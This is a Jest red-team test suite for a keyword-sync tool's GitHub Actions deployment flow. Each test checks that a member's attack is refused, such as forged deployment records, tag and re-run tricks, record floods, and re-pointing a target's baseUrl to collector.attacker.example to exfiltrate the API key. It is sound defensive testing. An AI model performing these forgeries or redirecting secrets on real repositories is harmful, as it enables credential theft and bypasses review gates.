// Issue 37 item 6, red team again: attacks a member with write access (pushes branches, runs and
// re-runs workflows, has `deployments: write` through any branch's workflow, gets a reviewed change
// merged) would try on the apply, promotion, status, drift and stage two, designed from
// docs/security.md, docs/targets.md, docs/github.md, docs/adopting.md and the workflows, not from
// src/. Each runs through runAction with the fake GitHub (deployments, statuses and workflow runs in
// GitHub's shapes) and the emulator over HTTP; the runs are the fake's, moved as GitHub moves them
// (a re-run puts a completed run back in progress with its old created_at).
// A test that asserts the safe outcome and fails on the code is `it.failing`, named with its finding.
import { describe, expect, it } from '@jest/globals';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'yaml';
import { runAction } from '../../src/action/run-action.js';
import { localUses, WORKFLOW_KINDS, workflowText } from '../../src/init/workflow-templates.js';
import type { KeywordTarget } from '../../src/model/target.js';
import type { RunContext } from '../../src/action/context.js';
import { type FakeDeployment, type FakeRun, rerun, RUNNER_RUNS, startRun } from '../github/fake-github.js';
import { commitOn, context, createLive, type Harness, harness, inputs, listYaml, liveOf, memberPlanLive, PREVIEW_CONFIG, runAtHead, stageTwoWorldPerTest, TWELVE } from './action-harness.js';

const APPLY_WORKFLOW = '.github/workflows/kwsync-apply.yml';
const TWO = 'targets:\n  - name: staging\n    appId: app\n  - name: production\n    environment: prod\n    appId: app\n    after: staging\n';
const { gh, w } = stageTwoWorldPerTest();

function commitMain(files: Record<string, string>): string {
  for (const [p, t] of Object.entries(files)) w.repo.write(p, t);
  return w.repo.commit();
}
/** A service whose writes all fail (a 503 storm): the apply records a failure. */
function failingWrites(t: KeywordTarget): KeywordTarget {
  return new Proxy(t, {
    get(o, k) {
      if (k === 'createKeywordList' || k === 'updateKeywordList' || k === 'deleteKeywordList') return async () => { throw new Error('the service answered 503'); };
      const v = Reflect.get(o, k, o);
      return typeof v === 'function' ? v.bind(o) : v;
    },
  });
}
/** `mode` for `target` at `sha` (made the head of main) inside the given workflow run, as that run's job. */
async function inRun(run: { url: string }, sha: string, mode: 'apply' | 'status' | 'drift', target?: string, wrap?: (h: Harness) => void, runAttempt = 1, event: Pick<RunContext, 'eventName' | 'event'> = { eventName: 'push' }) {
  gh.branches.set('main', sha);
  const h = harness(w.repo, gh, w.emu);
  wrap?.(h);
  const result = await runAction({ inputs: inputs(mode, { target }), context: context(w.repo, { sha, runUrl: run.url, runAttempt, ...event }), deps: h.deps });
  return { result, summary: h.summaries.join('\n') };
}
const apiOf = () => harness(w.repo, gh, undefined).deps.octokit;
/** A deployment and its statuses posted through GitHub's API, as a workflow with `deployments: write` can. */
async function postRecord(sha: string, environment: string, payload: unknown, statuses: { state: 'in_progress' | 'success' | 'failure'; log_url: string }[]): Promise<number> {
  const api = apiOf();
  const d = await api.request('POST /repos/{owner}/{repo}/deployments', { owner: 'acme', repo: 'lists', ref: sha, task: 'deploy:kwsync', environment, payload: payload as Record<string, unknown>, auto_merge: false, required_contexts: [], description: `kwsync apply of ${environment} at ${sha.slice(0, 7)}` });
  const id = (d.data as { id: number }).id;
  for (const s of statuses) await api.request('POST /repos/{owner}/{repo}/deployments/{deployment_id}/statuses', { owner: 'acme', repo: 'lists', deployment_id: id, state: s.state, log_url: s.log_url, description: 'kwsync' });
  return id;
}
const stagingRow = (summary: string) => /\| staging \| `([0-9a-f]{7})`/.exec(summary)?.[1];

describe('red team 2, member: re-runs and deployment records', () => {
  /** Staging's apply of S fails in push run R (attempt 1), production's job of R waits, R completes; returns S, R, the failed record and when it failed. */
  async function failedStagingRun() {
    const base = commitMain({ 'keywords/kwsync.yaml': TWO, 'keywords/scam.yaml': listYaml('scam', ['a']) });
    await runAtHead(w, gh, base, 'apply', { target: 'staging' });
    await runAtHead(w, gh, base, 'apply', { target: 'production' });
    const S = commitMain({ 'keywords/scam.yaml': listYaml('scam', ['a', 'untested']) });
    const R: FakeRun & { url: string } = startRun({ event: 'push', head_branch: 'main', head_sha: S, path: APPLY_WORKFLOW, status: 'in_progress', created_at: '2025-01-01T12:00:00Z', updated_at: '2025-01-01T12:00:00Z' });
    const staging = await inRun(R, S, 'apply', 'staging', (h) => {
      const real = h.deps.connect!;
      h.deps.connect = (t, s) => failingWrites(real(t, s));
    });
    expect(staging.result.failed).toBe(true);
    const record: FakeDeployment = gh.deployments.filter((d) => d.environment === 'staging' && d.sha === S).at(-1)!;
    expect(record.statuses.at(-1)!.state).not.toBe('success');
    // Production's job of R waits (wave 2 runs after a failed wave 1), then R completes.
    const waited = await inRun(R, S, 'apply', 'production');
    expect(waited.result.message).toContain('waits for staging');
    const failedAt = Date.parse(record.statuses.at(-1)!.created_at);
    Object.assign(RUNNER_RUNS.get(R.id)!, { status: 'completed', updated_at: new Date(failedAt).toISOString() });
    return { base, S, R, record, failedAt };
  }
  /** A success status on `record`, posted through the API, dated `at` (the fake's clock moves a second a write; GitHub's would be hours on). */
  async function addSuccess(record: FakeDeployment, logUrl: string, at: number): Promise<void> {
    await apiOf().request('POST /repos/{owner}/{repo}/deployments/{deployment_id}/statuses', { owner: 'acme', repo: 'lists', deployment_id: record.id, state: 'success', log_url: logUrl, description: 'applied' });
    record.statuses.at(-1)!.created_at = new Date(at).toISOString();
  }
  const HOUR = 3_600_000;

  // Was a FINDING on main (medium, issue 37 "a re-run widens a record's time window"): the run read
  // behind a record was the run as it is now; a re-run puts it back in progress with its old
  // created_at. Fixed by issue 37 item 2 (the record's log_url names its attempt, whose own start
  // and end bound it). On main this test put the run itself back in progress (the fake had no attempts).
  it('R2-M1 staging\'s apply of S fails in push run R; hours later a success is added to that record (its log_url as kwsync wrote it); R is re-run: production does not apply S, status does not show S as applied', async () => {
    const { base, S, R, record, failedAt } = await failedStagingRun();
    await addSuccess(record, record.statuses.at(-1)!.log_url, failedAt + 3 * HOUR);
    // Refused while R is completed: the status is outside the run's time.
    expect((await inRun(startRun({ head_sha: S }), S, 'apply', 'production')).result.message).toContain('waits for staging');
    // Re-run production's job of R ("Re-run this job"): attempt 2, in progress, R's created_at as it was.
    const attempt = rerun(RUNNER_RUNS.get(R.id)!, new Date(failedAt + 4 * HOUR).toISOString());
    const production = await inRun(R, S, 'apply', 'production', undefined, attempt);
    expect(production.result.failed).toBe(true);
    expect(production.result.message).toContain('waits for staging');
    expect((await liveOf(w).getKeywordList('scam'))?.searchTerms).not.toContain('untested');
    const status = await inRun(startRun({ head_sha: S }), S, 'status');
    expect(stagingRow(status.summary)).toBe(base.slice(0, 7));
  });

  // The forger names the new attempt instead: its window is open while production's job re-runs,
  // but staging's job did not run in it ("a record counts only for the attempt and job that made it").
  it('R2-M1b the same, the added success naming attempt 2 (the re-run of production\'s job only, in progress): production does not apply S', async () => {
    const { S, R, record, failedAt } = await failedStagingRun();
    const attempt = rerun(RUNNER_RUNS.get(R.id)!, new Date(failedAt + 4 * HOUR).toISOString());
    await addSuccess(record, `${R.url}/attempts/${attempt}`, failedAt + 4 * HOUR + 60_000);
    const production = await inRun(R, S, 'apply', 'production', undefined, attempt);
    expect(production.result.failed).toBe(true);
    expect(production.result.message).toContain('waits for staging');
    expect((await liveOf(w).getKeywordList('scam'))?.searchTerms).not.toContain('untested');
  });

  /** A tag `main` on X (off main: a branch that changes the apply workflow to run on tags), pushed: its run records staging at X. */
  async function tagRecord(base: string) {
    const genuine = gh.deployments.find((d) => d.environment === 'staging')!;
    const X = commitOn(w.repo, 'evil', base, { 'keywords/scam.yaml': listYaml('scam', ['a', 'unreviewed']) });
    gh.tags.set('main', X);
    const tagRun = startRun({ event: 'push', head_branch: 'main', head_sha: X, path: APPLY_WORKFLOW, status: 'in_progress', created_at: '2025-01-01T00:00:00Z', tag: true });
    await postRecord(X, 'staging', genuine.payload, [{ state: 'in_progress', log_url: `${tagRun.url}/attempts/1` }, { state: 'success', log_url: `${tagRun.url}/attempts/1` }]);
    return X;
  }

  // Was a FINDING on main (low, issue 37 "a tag named like the default branch"): GitHub gives a
  // tag-push run the tag's name as head_branch; a branch workflow that runs on a tag `main` is a
  // push run "on main". Fixed by issue 37 item 2 (the commit must be on main's history, and not one
  // a tag named like the branch points at).
  it('R2-M2 a tag named `main` on an unreviewed commit X, pushed to run a branch\'s copy of the apply workflow that records staging at X: status does not take X, nor promotion once X is main\'s head', async () => {
    const base = commitMain({ 'keywords/kwsync.yaml': TWO, 'keywords/scam.yaml': listYaml('scam', ['a']) });
    await runAtHead(w, gh, base, 'apply', { target: 'staging' });
    const X = await tagRecord(base);
    const status = await inRun(startRun({ head_sha: base }), base, 'status');
    expect(stagingRow(status.summary)).toBe(base.slice(0, 7));
    // X pushed to main itself (a fast-forward) would need production's promotion: staging's record of X must not count.
    w.repo.git('merge', '-q', '--ff-only', 'evil');
    const production = await inRun(startRun({ head_sha: X }), X, 'apply', 'production');
    expect(production.result.message).toContain('waits for staging');
  });

  // FINDING (low, new, after issue 37): the tag is the only sign of a tag's run (GitHub's run has no
  // ref type), and a tag can be deleted once its run is done; when X later enters main's history
  // (the branch merged with a merge commit, its workflow change reverted in a later commit), the
  // tag run's record reads as a push run's on main.
  it.failing('R2-M2b the same tag deleted after its run, X later merged into main by a merge commit: status does not show X as staging\'s last apply', async () => {
    const base = commitMain({ 'keywords/kwsync.yaml': TWO, 'keywords/scam.yaml': listYaml('scam', ['a']) });
    await runAtHead(w, gh, base, 'apply', { target: 'staging' });
    const X = await tagRecord(base);
    gh.tags.delete('main');
    w.repo.git('merge', '-q', '--no-ff', '-m', 'merge evil', 'evil');
    const M = w.repo.git('rev-parse', 'HEAD');
    const status = await inRun(startRun({ head_sha: M }), M, 'status');
    expect(stagingRow(status.summary)).not.toBe(X.slice(0, 7));
    expect(stagingRow(status.summary)).toBe(base.slice(0, 7));
  });

  // Was a FINDING (low, issue 37 "a flood of forged records"): the records were read newest first, the
  // first page only, so 100 forged records of S hide staging's genuine one. Open after issue 37's
  // first flood fix (the look-up by runs read one page of the run's commit, all forged here); fixed:
  // it reads down to the run's start, up to 3 pages.
  it('R2-M3 100 forged staging records of S (no run behind them) over the genuine one: production still finds staging\'s apply of S and applies', async () => {
    const base = commitMain({ 'keywords/kwsync.yaml': TWO, 'keywords/scam.yaml': listYaml('scam', ['a']) });
    await runAtHead(w, gh, base, 'apply', { target: 'staging' });
    await runAtHead(w, gh, base, 'apply', { target: 'production' });
    const S = commitMain({ 'keywords/scam.yaml': listYaml('scam', ['a', 'tested']) });
    await runAtHead(w, gh, S, 'apply', { target: 'staging' });
    flood('staging', S, 100);
    const production = await runAtHead(w, gh, S, 'apply', { target: 'production' });
    expect([production.result.failed, production.result.message]).toEqual([false, undefined]);
  }, 60_000);

  // Was a FINDING on main (low, as R2-M3): status read the same first page and showed `none`.
  // Fixed by issue 37 (a flood makes it ask the apply workflow's own newest push runs).
  it('R2-M3b the same flood: status still shows staging\'s genuine apply of S', async () => {
    const base = commitMain({ 'keywords/kwsync.yaml': TWO, 'keywords/scam.yaml': listYaml('scam', ['a']) });
    await runAtHead(w, gh, base, 'apply', { target: 'staging' });
    const S = commitMain({ 'keywords/scam.yaml': listYaml('scam', ['a', 'tested']) });
    await runAtHead(w, gh, S, 'apply', { target: 'staging' });
    flood('staging', base, 100);
    const status = await runAtHead(w, gh, S, 'status');
    expect(status.summary).toContain(`| staging | \`${S.slice(0, 7)}\``);
  }, 60_000);

  /** `n` copies of the environment's genuine record, claiming `sha`, each logged to a run that does not exist. */
  function flood(environment: string, sha: string, n: number): void {
    const real = gh.deployments.filter((d) => d.environment === environment).at(-1)!;
    for (let i = 0; i < n; i += 1) {
      gh.deployments.push({ ...structuredClone(real), id: 50_000 + i, sha, ref: sha, statuses: real.statuses.map((s, j) => ({ ...s, id: 60_000 + i * 10 + j, state: 'failure', log_url: `https://github.com/acme/lists/actions/runs/${880_000 + i}` })) });
    }
  }

  it('R2-M4 Re-run jobs on an old push run after main moved on: it applies nothing (superseded), and the record it would leave does not roll promotion back', async () => {
    const base = commitMain({ 'keywords/kwsync.yaml': TWO, 'keywords/scam.yaml': listYaml('scam', ['a']) });
    const old = startRun({ event: 'push', head_branch: 'main', head_sha: base, path: APPLY_WORKFLOW });
    await inRun(old, base, 'apply', 'staging');
    const S = commitMain({ 'keywords/scam.yaml': listYaml('scam', ['a', 'b']) });
    await runAtHead(w, gh, S, 'apply', { target: 'staging' });
    gh.branches.set('main', S);
    const h = harness(w.repo, gh, w.emu);
    const rerun = await runAction({ inputs: inputs('apply', { target: 'staging' }), context: context(w.repo, { sha: base, runUrl: old.url }), deps: h.deps });
    expect(rerun.failed).toBe(false);
    expect(h.summaries.join('\n')).toContain('superseded');
    expect((await liveOf(w).getKeywordList('scam'))?.searchTerms).toContain('b');
    const status = await runAtHead(w, gh, S, 'status');
    expect(stagingRow(status.summary)).toBe(S.slice(0, 7));
  });

  it('R2-M5 main force-pushed back to an older applied commit: the push\'s apply refuses to undo the newer apply (the revert guard) and live keeps it', async () => {
    const O = commitMain({ 'keywords/scam.yaml': listYaml('scam', ['a']) });
    await runAtHead(w, gh, O, 'apply');
    const N = commitMain({ 'keywords/scam.yaml': listYaml('scam', ['a', 'b']) });
    await runAtHead(w, gh, N, 'apply');
    w.repo.git('reset', '-q', '--hard', O);
    gh.branches.set('main', O);
    const h = harness(w.repo, gh, w.emu);
    const result = await runAction({ inputs: inputs('apply'), context: context(w.repo, { sha: O, event: { before: N } }), deps: h.deps });
    expect(result.failed).toBe(true);
    expect((await liveOf(w).getKeywordList('scam'))?.searchTerms).toContain('b');
  });

  // Was a FINDING (low, issue 37 item 2, second paragraph): a run GitHub will not show made the records
  // "no deployment record (… cannot be read (403 …))", naming neither the request nor what to grant.
  // Fixed by issue 37: both name the request and `actions: read`; status says "applied: unknown" and
  // "the last apply cannot be told (…)", and promotion no longer calls the 403 a bug in kwsync.
  it('R2-M6 a job without `actions: read` (the run behind each record answers 403): status and promotion name the request and the permission, never "no apply … recorded"', async () => {
    const base = commitMain({ 'keywords/kwsync.yaml': TWO, 'keywords/scam.yaml': listYaml('scam', ['a']) });
    await runAtHead(w, gh, base, 'apply', { target: 'staging' });
    await runAtHead(w, gh, base, 'apply', { target: 'production' });
    gh.faultsFor.push({ method: 'GET', path: /\/actions\/runs\/\d+(\/attempts\/\d+)?$/, status: 403, message: 'Resource not accessible by integration', count: 1_000 });
    const status = await runAtHead(w, gh, base, 'status');
    expect(status.summary).toMatch(/actions: read/);
    expect(status.summary).toMatch(/GET [^\n]*actions\/runs/);
    expect(status.summary).not.toMatch(/no apply[^\n]*recorded|has no record|no deployment record/i);
    expect(status.summary).not.toMatch(/\| (staging|production) \| none \|/);
    const production = await runAtHead(w, gh, base, 'apply', { target: 'production' });
    expect(production.result.failed).toBe(true);
    expect(production.result.message).toMatch(/actions: read/);
    expect(production.result.message).not.toMatch(/has no record of|a bug in kwsync/);
  });
});

describe('red team 2, member: the key after a re-pointing merge', () => {
  const BASE = `${PREVIEW_CONFIG}targets:\n  - name: production\n    appId: app1\n`;
  const REPOINT = `${PREVIEW_CONFIG}targets:\n  - name: production\n    appId: app1\n    baseUrl: https://collector.attacker.example\n`;
  /** The re-pointing change merged after review (the CAUTION shown); the push's apply holds it. Returns the merged commit. */
  async function mergedRepoint(): Promise<string> {
    const base = commitMain({ 'keywords/kwsync.yaml': BASE, 'keywords/blocklist.yaml': listYaml('blocklist', TWELVE) });
    await createLive(w, 'blocklist', TWELVE);
    const head = commitMain({ 'keywords/kwsync.yaml': REPOINT });
    gh.branches.set('main', head);
    const h = harness(w.repo, gh, w.emu);
    const held = await runAction({ inputs: inputs('apply', { target: 'production' }), context: context(w.repo, { sha: head, event: { before: base } }), deps: h.deps });
    expect(held.failed).toBe(true);
    return head;
  }
  const recording = (seen: unknown[]) => (h: Harness) => {
    const real = h.deps.connect!;
    h.deps.connect = (t, s) => (seen.push(t?.baseUrl), real(t, s));
    const messages = h.deps.recentMessages;
    if (messages) h.deps.recentMessages = (t, s) => (seen.push(t?.baseUrl), messages(t, s));
  };

  // Was a FINDING (medium, new in this red team): the apply on the push holds a re-pointed target for
  // a maintainer's Run workflow, but the scheduled drift connected with the default branch's
  // kwsync.yaml as merged. Issue 37 compared with the last genuine record's commit (R2-M7c); with no
  // record at all (here) nothing was compared. Fixed: with no record, kwsync.yaml's history must show
  // one connection only (src/action/confirmed-connection.ts).
  it('R2-M7 the next scheduled drift does not send production\'s key to the new server before a maintainer confirms it', async () => {
    const head = await mergedRepoint();
    const seen: unknown[] = [];
    await inRun(startRun({ event: 'schedule', head_sha: head, path: '.github/workflows/kwsync-drift.yml' }), head, 'drift', 'production', recording(seen)).catch(() => undefined);
    expect(seen).not.toContain('https://collector.attacker.example');
  });

  it('R2-M7c the same after production\'s apply of the base was recorded: the drift refuses to connect with the re-pointed kwsync.yaml and names the change', async () => {
    const base = commitMain({ 'keywords/kwsync.yaml': BASE, 'keywords/blocklist.yaml': listYaml('blocklist', TWELVE) });
    await runAtHead(w, gh, base, 'apply', { target: 'production' });
    const head = commitMain({ 'keywords/kwsync.yaml': REPOINT });
    gh.branches.set('main', head);
    const seen: unknown[] = [];
    const drift = await inRun(startRun({ event: 'schedule', head_sha: head, path: '.github/workflows/kwsync-drift.yml' }), head, 'drift', 'production', recording(seen));
    expect(seen).not.toContain('https://collector.attacker.example');
    expect(drift.result.failed).toBe(true);
    expect(drift.result.message).toContain('baseUrl (none) → https://collector.attacker.example');
  });

  // Was a FINDING (medium, new, same): any later pull request's stage two planned production with the
  // merged connection. Fixed: the same confirmation; unconfirmed, stage two plans offline.
  it('R2-M7b a later pull request\'s stage two (its plan job holds production\'s key) does not send it to the new server before a maintainer confirms it', async () => {
    const head = await mergedRepoint();
    const seen: unknown[] = [];
    await stageTwo(head, seen);
    expect(seen).not.toContain('https://collector.attacker.example');
  });

  /** A pull request of `insider` on main at `head` (the list gains a term), its stage two with production's key. */
  async function stageTwo(head: string, seen: unknown[]) {
    const pr = commitOn(w.repo, 'feature', head, { 'keywords/blocklist.yaml': listYaml('blocklist', [...TWELVE, 'darn']) });
    gh.permissions.set('insider', 'write');
    gh.pulls = [{
      number: 7, state: 'open', user: { login: 'insider', type: 'User' }, author_association: 'MEMBER', labels: [],
      head: { sha: pr, ref: 'feature', repo: { full_name: 'acme/lists', owner: { login: 'acme' } } }, base: { sha: head, ref: 'main', repo: { full_name: 'acme/lists' } },
    }];
    const event = { workflow_run: { id: 99, event: 'pull_request', status: 'completed', conclusion: 'success', path: '.github/workflows/kwsync-plan.yml', head_sha: pr, head_branch: 'feature', head_repository: { full_name: 'acme/lists', owner: { login: 'acme' } }, pull_requests: [] } };
    const h = harness(w.repo, gh, w.emu);
    recording(seen)(h);
    const result = await runAction({ inputs: inputs('plan-live', { target: 'production' }), context: context(w.repo, { eventName: 'workflow_run', sha: head, event }), deps: h.deps });
    return { result, summary: h.summaries.join('\n'), warnings: h.warnings };
  }
  const ATTACKER = 'https://collector.attacker.example';

  // Was a FINDING (medium, R2-M7d): the apply compared only with its own push's `before`, so the
  // push after a held re-pointing merge (its `before` already re-pointed) applied the new connection
  // without a maintainer, and its record then confirmed it for drift and stage two. Fixed: every
  // apply but a maintainer's Run workflow asks confirmConnection too.
  it('R2-M7d a later push after the held re-pointing merge does not send the key to the new server', async () => {
    const head = await mergedRepoint();
    const later = commitMain({ 'keywords/blocklist.yaml': listYaml('blocklist', [...TWELVE, 'darn']) });
    const seen: unknown[] = [];
    const push = startRun({ event: 'push', head_sha: later, path: APPLY_WORKFLOW });
    const applied = await inRun(push, later, 'apply', 'production', recording(seen), 1, { eventName: 'push', event: { before: head } });
    expect(seen.filter((u) => u === ATTACKER)).toHaveLength(0);
    expect(applied.result.failed).toBe(true);
    expect(applied.result.message).toMatch(/^target "production" connects where no apply confirmed it \(.*baseUrl \(none\) → https:\/\/collector\.attacker\.example.*\), so it is not applied automatically: a maintainer confirms the connection by running the apply workflow by hand/);
    expect(applied.summary).toContain('**Nothing was applied.**');
    expect(gh.deployments.filter((d) => d.environment === 'production')).toEqual([]);
    // Nor does its drift afterwards (no record was made to confirm it).
    const drift = await inRun(startRun({ event: 'schedule', head_sha: later, path: '.github/workflows/kwsync-drift.yml' }), later, 'drift', 'production', recording(seen));
    expect(drift.result.failed).toBe(true);
    expect(seen.filter((u) => u === ATTACKER)).toHaveLength(0);
  });

  it('R2-M7e after the maintainer\'s Run workflow apply (workflow_dispatch) at the new connection, the next push\'s apply, drift and stage two connect', async () => {
    const head = await mergedRepoint();
    const seen: unknown[] = [];
    // The maintainer: Actions → the apply workflow → Run workflow on main (no `before`).
    const byHand = startRun({ event: 'workflow_dispatch', head_branch: 'main', head_sha: head, path: APPLY_WORKFLOW });
    const confirmed = await inRun(byHand, head, 'apply', 'production', recording(seen), 1, { eventName: 'workflow_dispatch', event: { inputs: { force: false } } });
    expect(confirmed.result.failed).toBe(false);
    expect(seen).toContain(ATTACKER);
    const record = gh.deployments.filter((d) => d.environment === 'production').at(-1)!;
    expect(record.statuses.at(-1)).toMatchObject({ state: 'success', log_url: expect.stringContaining(`/actions/runs/${byHand.id}`) });
    // Its record confirms the connection for the drift and stage two (each sends the key there).
    seen.length = 0;
    const drift = await inRun(startRun({ event: 'schedule', head_sha: head, path: '.github/workflows/kwsync-drift.yml' }), head, 'drift', 'production', recording(seen));
    expect(drift.result.message ?? '').not.toContain('not sent where');
    expect(drift.result.failed).toBe(false);
    expect(seen).toContain(ATTACKER);
    seen.length = 0;
    const planned = await stageTwo(head, seen);
    expect(planned.summary).not.toContain('not sent where');
    expect(seen).toContain(ATTACKER);
    // The next push applies without a maintainer.
    gh.pulls = [];
    const later = commitMain({ 'keywords/blocklist.yaml': listYaml('blocklist', [...TWELVE, 'darn']) });
    seen.length = 0;
    const applied = await inRun(startRun({ event: 'push', head_sha: later, path: APPLY_WORKFLOW }), later, 'apply', 'production', recording(seen), 1, { eventName: 'push', event: { before: head } });
    expect(applied.result).toMatchObject({ failed: false });
    expect(seen).toContain(ATTACKER);
  });
});

describe('red team 2, member: where the key comes from', () => {
  const dir = join(process.cwd(), '.github/workflows');
  const own = Object.fromEntries(readdirSync(dir).filter((f) => /^kwsync-.*\.ya?ml$/.test(f)).map((f) => [f, readFileSync(join(dir, f), 'utf8')]));
  const adopters = Object.fromEntries(WORKFLOW_KINDS.map((k) => [`init:${k}`, workflowText(k, { uses: localUses, dir: 'keywords', branch: 'main' })]));
  const callers: Record<string, string> = { ...own, ...adopters };

  // Was a FINDING on main (low, issue 37 item 4; R-W7 of issue 27): the callers pass the secret by
  // name (GitHub requires it, even for an environment's secret), so a repository or organisation
  // COMETCHAT_API_KEY filled in for a target whose environment has none, the scheduled drift of such
  // a target included. On main this test asked that no caller pass the secret by name at all, which
  // GitHub does not allow; it now asks what that was for: every caller (ours and init's) reaches the
  // key only through reusable steps that hand it to kwsync when the job's own environment vouches
  // for it (its variable KWSYNC_ENVIRONMENT names it), and none inherits every secret.
  it('R2-M8 no caller (the scheduled drift included) lets a repository-level COMETCHAT_API_KEY reach kwsync: it goes only to steps gated on the job\'s own environment, never `secrets: inherit`', () => {
    const environment = 'fromJSON(needs.targets.outputs.environments)[matrix.target]';
    const gated = `\${{ vars.KWSYNC_ENVIRONMENT == ${environment} && secrets.COMETCHAT_API_KEY || '' }}`;
    for (const [name, text] of Object.entries(callers)) {
      for (const [id, job] of Object.entries((parse(text) as { jobs?: Record<string, any> }).jobs ?? {})) {
        expect([name, id, job.secrets === 'inherit']).toEqual([name, id, false]);
        if (!/secrets\.COMETCHAT_API_KEY\b/.test(JSON.stringify(job.secrets ?? {}))) continue;
        const called = String(job.uses).replace(/^\.\//, '');
        const reusable = (parse(readFileSync(join(process.cwd(), called), 'utf8')) as { jobs: Record<string, any> }).jobs;
        const steps = Object.entries(reusable).flatMap(([j, rj]) => (rj.steps ?? []).filter((st: any) => JSON.stringify(st).includes('secrets.COMETCHAT_API_KEY')).map((st: any) => ({ at: `${called} ${j}`, key: st.env?.COMETCHAT_API_KEY, environment: rj.environment?.name })));
        expect(steps.length).toBeGreaterThan(0);
        for (const st of steps) expect(st).toEqual({ at: st.at, key: gated, environment: `\${{ ${environment} }}` });
      }
    }
    expect(Object.keys(callers).filter((n) => /drift/.test(n))).toHaveLength(2);
  });

  // Was a FINDING (medium, new; needs a reviewed merge, as R-M4): `target-environment-shared` compared
  // names as written; fixed, it ignores case. GitHub's environment names are not case-sensitive ("Production" is the environment
  // "production"), and so is `==` in its expressions: a target whose environment differs from
  // another's only in case shares its secret and its KWSYNC_ENVIRONMENT.
  it('R2-M10 the PR adds a target whose environment is production\'s in other letter case, with its own baseUrl: refused as a shared environment', async () => {
    const base = commitMain({ 'keywords/kwsync.yaml': `${PREVIEW_CONFIG}targets:\n  - name: production\n    appId: app1\n`, 'keywords/blocklist.yaml': listYaml('blocklist', TWELVE) });
    await createLive(w, 'blocklist', TWELVE);
    const head = commitOn(w.repo, 'feature', base, { 'keywords/kwsync.yaml': `${PREVIEW_CONFIG}targets:\n  - name: production\n    appId: app1\n  - name: mirror\n    appId: app1\n    environment: PRODUCTION\n    baseUrl: https://collector.attacker.example\n` });
    await memberPlanLive(w, gh, head, base, { runId: 99 });
    const check = gh.checkRuns.at(-1)!;
    expect(JSON.stringify(check.annotations)).toContain('target-environment-shared');
    expect(check.conclusion).toBe('failure');
  });

  it('R2-M9 every job that can hold the key runs in the target\'s environment, named from the default branch\'s kwsync.yaml (the targets job), never from the event', () => {
    for (const name of ['reusable-apply.yml', 'reusable-drift.yml', 'reusable-plan-live.yml']) {
      const jobs = (parse(readFileSync(join(dir, name), 'utf8')) as { jobs: Record<string, any> }).jobs;
      for (const [id, job] of Object.entries(jobs).filter(([, j]) => /secrets\./.test(JSON.stringify(j)))) {
        expect([name, id, job.environment?.name]).toEqual([name, id, '${{ fromJSON(needs.targets.outputs.environments)[matrix.target] }}']);
        expect([name, id, [job.needs].flat()]).toEqual([name, id, expect.arrayContaining(['targets'])]);
      }
    }
  });
});
